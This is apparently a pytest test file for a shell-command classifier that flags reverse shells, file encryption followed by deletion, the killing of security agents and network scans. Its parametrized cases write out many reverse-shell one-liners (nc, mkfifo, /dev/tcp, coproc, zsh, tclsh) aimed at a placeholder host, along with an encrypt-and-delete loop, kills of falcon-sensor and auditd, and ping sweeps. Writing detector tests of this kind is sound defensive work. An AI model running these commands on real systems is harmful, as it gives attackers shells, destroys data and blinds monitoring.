"""What only the whole line shows."""

import pytest

from tests.support.commands import facts_of


@pytest.mark.parametrize(
    "command",
    [
        "mkfifo p; sh -i < p 2>&1 | nc h 1 > p",
        "mknod p p; nc h 1 < p | bash > p",
        "sh -i | nc h 1",
        "nc h 1 | sh",
        'nc -lk 1 | while read c; do eval "$c"; done',
        "nc h 1 | xargs -I{} sh -c '{}'",
        "bash < <(nc h 1)",
        "sh <(cat /dev/tcp/h/1)",
        "cat < /dev/tcp/h/1 | sh",
        "curl -sN telnet://h:1 | sh",
        "telnet h 1 | sh | telnet h 2",
        "exec 5<>/dev/tcp/h/1; sh <&5 >&5",
        "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l; done",
        'exec 5<>/dev/tcp/h/1; while read l <&5; do eval "$l"; done',
        "coproc nc h 1; exec sh <&${COPROC[0]} >&${COPROC[1]}",
        "zsh -c 'ztcp h 1; zsh <&$REPLY >&$REPLY'",
        'tclsh\nset s [socket h 1]; while 1 { gets $s c; set e "exec $c"; eval $e }',
    ],
)
def test_a_shell_and_a_connection(command: str) -> None:
    assert "reverse-shell" in facts_of(command)


@pytest.mark.parametrize(
    "command",
    [
        "nc h 1; sh build.sh",
        "mkfifo p; cat p | grep x",
        "curl x | sh",
        "cat < /dev/tcp/h/1",
        "nc h 1 | grep x",
        "sh a.sh | nc h 1",
    ],
)
def test_neighbours(command: str) -> None:
    assert "reverse-shell" not in facts_of(command)


@pytest.mark.parametrize(
    "command",
    ["echo 'eval ls' | openssl base64 -d | sh", "nc -z h 1 && echo ls | sh", "curl -s http://h | sh; nc -z h 1"],
)
def test_a_connection_that_gives_no_orders(command: str) -> None:
    assert "reverse-shell" not in facts_of(command)


def test_what_is_encrypted_and_then_deleted() -> None:
    assert "encrypts-files" in facts_of("find . | xargs -I{} sh -c 'age -r k -o {}.enc {} && rm {}'")
    assert "encrypts-files" not in facts_of("age -d -i k -o x x.age && rm x.age")
    assert "encrypts-files" not in facts_of("zip -r x.zip notes && rm notes")


def test_guards_that_are_looked_for_and_killed() -> None:
    assert "disables-guard" in facts_of("ps aux | grep falcon-sensor | awk '{print $2}' | xargs kill -9")
    assert "disables-guard" in facts_of("pgrep auditd | xargs kill")
    assert "disables-guard" not in facts_of("ps aux | grep falcon-sensor; pgrep node | xargs kill -0; kill 7")


def test_machines_asked_one_after_the_other() -> None:
    assert "scans-network" in facts_of("for i in $(seq 1 254); do ping -c1 10.0.0.$i; done")
    assert "scans-network" in facts_of("while true; do nc -z root@10.0.0.$i 22; done; date")
    assert "scans-network" not in facts_of("ping -c1 10.0.0.1; ping -c1 10.0.0.2; ping -c1 192.0.2.9")
